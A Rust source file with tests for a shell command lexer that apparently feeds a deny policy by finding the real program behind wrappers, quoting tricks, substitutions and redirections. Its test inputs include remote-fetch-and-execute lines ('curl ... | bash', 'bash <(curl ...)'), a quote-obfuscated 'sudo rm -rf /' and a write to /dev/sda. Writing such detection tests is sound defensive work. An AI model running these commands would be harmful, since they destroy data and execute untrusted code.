//! Shell-aware command lexing
//!
//! Command text is split in two passes:
//! 1. a quote-aware scan cuts the text at unquoted control operators
//!    (`;`, `&&`, `||`, `&`, newline) into pipelines, and at `|` into
//!    pipeline stages, while collecting `$(...)`, `<(...)` and backtick
//!    bodies;
//! 2. each stage is word-split with `shell-words`.
//!
//! Leading `NAME=value` assignments, leading redirections and transparent
//! wrappers (`env`, `nohup`, `timeout`, ...) are skipped when locating the
//! program word, so `FOO=1 env sudo id` still has program `sudo`.

/// Lexing failures (always treated as a deny by the policy)
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum LexError {
    /// A quote was opened and never closed
    #[error("unterminated quote")]
    UnterminatedQuote,

    /// `$(` or a backtick was never closed
    #[error("unbalanced command substitution")]
    UnbalancedSubstitution,

    /// `shell-words` rejected a stage
    #[error("cannot split words: {0}")]
    Words(String),
}

/// Reserved words that may precede a command in a compound statement
const KEYWORDS: &[&str] = &[
    "!", "{", "}", "if", "then", "else", "elif", "do", "while", "until",
];

/// Programs that run the rest of their argument list as a command
const WRAPPERS: &[&str] = &[
    "env", "command", "exec", "nice", "nohup", "time", "builtin", "stdbuf", "timeout",
];

/// One stage of a pipeline
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    words: Vec<String>,
    start: usize,
}

impl SimpleCommand {
    fn new(words: Vec<String>) -> Self {
        let start = program_index(&words);
        Self { words, start }
    }

    /// Basename of the program word, if any
    #[must_use]
    pub fn program(&self) -> Option<&str> {
        self.words.get(self.start).map(|w| basename(w))
    }

    /// Words after the program
    #[must_use]
    pub fn args(&self) -> &[String] {
        self.words.get(self.start + 1..).unwrap_or_default()
    }

    /// Every word of the stage, including assignments, wrappers and redirections
    #[must_use]
    pub fn words(&self) -> &[String] {
        &self.words
    }
}

/// Stages joined by `|`
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Pipeline {
    pub stages: Vec<SimpleCommand>,
}

/// Fully lexed command text
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct CommandLine {
    /// Pipelines in textual order
    pub pipelines: Vec<Pipeline>,
    /// Bodies of `$(...)`, process and backtick substitutions, for recursive inspection
    pub substitutions: Vec<String>,
}

impl CommandLine {
    /// All stages of all pipelines
    pub fn stages(&self) -> impl Iterator<Item = &SimpleCommand> {
        self.pipelines.iter().flat_map(|p| p.stages.iter())
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Quote {
    None,
    Single,
    Double,
}

#[derive(Default)]
struct Splitter {
    current: String,
    stages: Vec<String>,
    pipelines: Vec<Vec<String>>,
}

impl Splitter {
    fn end_stage(&mut self) {
        let stage = self.current.trim();
        if !stage.is_empty() {
            self.stages.push(stage.to_string());
        }
        self.current.clear();
    }

    fn end_pipeline(&mut self) {
        self.end_stage();
        if !self.stages.is_empty() {
            self.pipelines.push(std::mem::take(&mut self.stages));
        }
    }
}

/// Lex command text into pipelines of simple commands
pub fn parse(text: &str) -> Result<CommandLine, LexError> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Splitter::default();
    let mut substitutions = Vec::new();
    let mut quote = Quote::None;
    let mut depth = 0usize;
    let mut subst_start = 0usize;
    let mut backtick_start: Option<usize> = None;
    let mut i = 0;

    while i < chars.len() {
        let c = chars[i];
        let next = chars.get(i + 1).copied();

        if quote == Quote::Single {
            out.current.push(c);
            if c == '\'' {
                quote = Quote::None;
            }
            i += 1;
            continue;
        }

        if c == '\\' {
            out.current.push(c);
            if let Some(n) = next {
                out.current.push(n);
            }
            i += 2;
            continue;
        }

        if next == Some('(') && (c == '$' || (quote == Quote::None && matches!(c, '<' | '>'))) {
            if depth == 0 {
                subst_start = i + 2;
            }
            depth += 1;
            out.current.push(c);
            out.current.push('(');
            i += 2;
            continue;
        }

        if c == ')' && depth > 0 {
            depth -= 1;
            if depth == 0 {
                substitutions.push(chars[subst_start..i].iter().collect());
            }
            out.current.push(c);
            i += 1;
            continue;
        }

        if c == '`' {
            match backtick_start.take() {
                Some(start) => substitutions.push(chars[start..i].iter().collect()),
                None => backtick_start = Some(i + 1),
            }
            out.current.push(c);
            i += 1;
            continue;
        }

        if quote == Quote::Double {
            out.current.push(c);
            if c == '"' {
                quote = Quote::None;
            }
            i += 1;
            continue;
        }

        match c {
            '\'' => {
                quote = Quote::Single;
                out.current.push(c);
            }
            '"' => {
                quote = Quote::Double;
                out.current.push(c);
            }
            '(' if depth > 0 => {
                depth += 1;
                out.current.push(c);
            }
            _ if depth > 0 || backtick_start.is_some() => out.current.push(c),
            '(' | ')' => out.end_pipeline(),
            '|' if next == Some('|') => {
                out.end_pipeline();
                i += 1;
            }
            '|' => {
                out.end_stage();
                if next == Some('&') {
                    i += 1;
                }
            }
            '&' if next == Some('&') => {
                out.end_pipeline();
                i += 1;
            }
            '&' if next == Some('>') || (i > 0 && chars[i - 1] == '>') => out.current.push(c),
            '&' | ';' | '\n' => out.end_pipeline(),
            _ => out.current.push(c),
        }
        i += 1;
    }

    if quote != Quote::None {
        return Err(LexError::UnterminatedQuote);
    }
    if depth > 0 || backtick_start.is_some() {
        return Err(LexError::UnbalancedSubstitution);
    }
    out.end_pipeline();

    let mut pipelines = Vec::with_capacity(out.pipelines.len());
    for raw in out.pipelines {
        let mut stages = Vec::with_capacity(raw.len());
        for stage in raw {
            let words = shell_words::split(&stage).map_err(|e| LexError::Words(e.to_string()))?;
            if !words.is_empty() {
                stages.push(SimpleCommand::new(words));
            }
        }
        if !stages.is_empty() {
            pipelines.push(Pipeline { stages });
        }
    }

    Ok(CommandLine {
        pipelines,
        substitutions,
    })
}

/// Final path component of a program word
#[must_use]
pub fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Whether `word` is a `NAME=value` assignment
#[must_use]
pub fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            let mut chars = name.chars();
            matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
                && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

/// Redirection operator with its target in the following word
fn is_bare_redirect(word: &str) -> bool {
    let op = word.trim_start_matches(|c: char| c.is_ascii_digit());
    matches!(op, ">" | ">>" | "<" | "<<" | "&>" | "&>>" | ">|")
}

/// Redirection operator with its target attached (`>out`, `2>>log`)
fn is_attached_redirect(word: &str) -> bool {
    let op = word.trim_start_matches(|c: char| c.is_ascii_digit());
    !is_bare_redirect(word) && (op.starts_with('>') || op.starts_with('<') || op.starts_with("&>"))
}

/// Targets of every output redirection in a word list
#[must_use]
pub fn redirect_targets(words: &[String]) -> Vec<&str> {
    let mut targets = Vec::new();
    let mut iter = words.iter().peekable();
    while let Some(word) = iter.next() {
        let op = word.trim_start_matches(|c: char| c.is_ascii_digit());
        if is_bare_redirect(word) && !op.starts_with('<') {
            if let Some(target) = iter.peek() {
                targets.push(target.as_str());
            }
        } else if is_attached_redirect(word) && !op.starts_with('<') {
            targets.push(op.trim_start_matches(['&', '>', '|']));
        }
    }
    targets
}

fn program_index(words: &[String]) -> usize {
    let mut i = 0;
    loop {
        while i < words.len()
            && (is_assignment(&words[i])
                || is_redirect_at(words, i)
                || KEYWORDS.contains(&words[i].as_str()))
        {
            i += if is_bare_redirect(&words[i]) { 2 } else { 1 };
        }
        let Some(word) = words.get(i) else {
            return i;
        };
        let name = basename(word);
        if !WRAPPERS.contains(&name) || (name == "command" && only_looks_up(&words[i + 1..])) {
            return i;
        }
        i += 1;
        let mut positional_to_skip = usize::from(name == "timeout");
        while let Some(w) = words.get(i) {
            if w.starts_with('-') {
                i += if name == "nice" && w == "-n" { 2 } else { 1 };
            } else if name == "env" && is_assignment(w) {
                i += 1;
            } else if positional_to_skip > 0 {
                positional_to_skip -= 1;
                i += 1;
            } else {
                break;
            }
        }
    }
}

/// `command -v` / `command -V` print what a name resolves to without running it
fn only_looks_up(args: &[String]) -> bool {
    args.iter()
        .take_while(|a| a.starts_with('-') && a.as_str() != "--")
        .any(|a| a.chars().any(|c| c == 'v' || c == 'V'))
}

fn is_redirect_at(words: &[String], i: usize) -> bool {
    is_bare_redirect(&words[i]) || is_attached_redirect(&words[i])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(text: &str) -> Vec<Vec<String>> {
        parse(text)
            .unwrap()
            .pipelines
            .iter()
            .map(|p| {
                p.stages
                    .iter()
                    .map(|s| s.program().unwrap_or_default().to_string())
                    .collect()
            })
            .collect()
    }

    #[test]
    fn splits_pipes_and_lists() {
        assert_eq!(
            programs("curl -s x | bash && ls; echo hi || true & wait"),
            vec![
                vec!["curl".to_string(), "bash".to_string()],
                vec!["ls".to_string()],
                vec!["echo".to_string()],
                vec!["true".to_string()],
                vec!["wait".to_string()],
            ]
        );
    }

    #[test]
    fn pipe_without_spaces() {
        assert_eq!(
            programs("curl http://x|sh"),
            vec![vec!["curl".to_string(), "sh".to_string()]]
        );
    }

    #[test]
    fn quoted_operators_do_not_split() {
        let line = parse("echo 'a | b' \"c && d\"").unwrap();
        assert_eq!(line.pipelines.len(), 1);
        assert_eq!(line.pipelines[0].stages[0].args(), ["a | b", "c && d"]);
    }

    #[test]
    fn quoting_tricks_are_normalized() {
        let line = parse(r#""su""do" 'rm' "-rf" /"#).unwrap();
        let stage = &line.pipelines[0].stages[0];
        assert_eq!(stage.program(), Some("sudo"));
        assert_eq!(stage.args(), ["rm", "-rf", "/"]);
    }

    #[test]
    fn assignments_wrappers_and_paths_are_skipped() {
        let line = parse("FOO=1 env BAR=2 nohup timeout 10 /usr/bin/sudo id").unwrap();
        assert_eq!(line.pipelines[0].stages[0].program(), Some("sudo"));
    }

    #[test]
    fn command_lookup_is_not_a_wrapper() {
        assert_eq!(programs("command -v sudo"), vec![vec!["command".to_string()]]);
        assert_eq!(programs("command -pV doas"), vec![vec!["command".to_string()]]);
        assert_eq!(programs("command sudo ls"), vec![vec!["sudo".to_string()]]);
        assert_eq!(programs("command -p sudo ls"), vec![vec!["sudo".to_string()]]);
    }

    #[test]
    fn subshells_and_keywords_expose_the_program() {
        assert_eq!(
            programs("(cd /tmp; sudo id)"),
            vec![vec!["cd".to_string()], vec!["sudo".to_string()]]
        );
        assert_eq!(
            programs("if true; then { doas id; }; fi"),
            vec![
                vec!["true".to_string()],
                vec!["doas".to_string()],
                vec![String::new()],
                vec!["fi".to_string()],
            ]
        );
    }

    #[test]
    fn substitutions_are_collected() {
        let line = parse("echo $(curl x | sh) `id`").unwrap();
        assert_eq!(line.pipelines.len(), 1);
        assert_eq!(line.substitutions, vec!["curl x | sh".to_string(), "id".to_string()]);
    }

    #[test]
    fn process_substitution_is_collected() {
        let line = parse("bash <(curl -s http://x)").unwrap();
        assert_eq!(line.pipelines.len(), 1);
        assert_eq!(line.substitutions, vec!["curl -s http://x".to_string()]);
    }

    #[test]
    fn redirections_are_found() {
        let line = parse("echo x > /dev/sda 2>>err.log >out").unwrap();
        let words = line.pipelines[0].stages[0].words();
        assert_eq!(redirect_targets(words), vec!["/dev/sda", "err.log", "out"]);
    }

    #[test]
    fn stderr_dup_is_not_a_background_operator() {
        let line = parse("make 2>&1 | tee log").unwrap();
        assert_eq!(line.pipelines.len(), 1);
        assert_eq!(line.pipelines[0].stages.len(), 2);
    }

    #[test]
    fn unterminated_quote_is_an_error() {
        assert_eq!(parse("echo 'oops"), Err(LexError::UnterminatedQuote));
        assert_eq!(parse("echo $(id"), Err(LexError::UnbalancedSubstitution));
    }

    #[test]
    fn assignment_detection() {
        assert!(is_assignment("FOO=bar"));
        assert!(is_assignment("_x1="));
        assert!(!is_assignment("plain"));
        assert!(!is_assignment("1A=b"));
        assert!(!is_assignment("--opt=x"));
    }
}
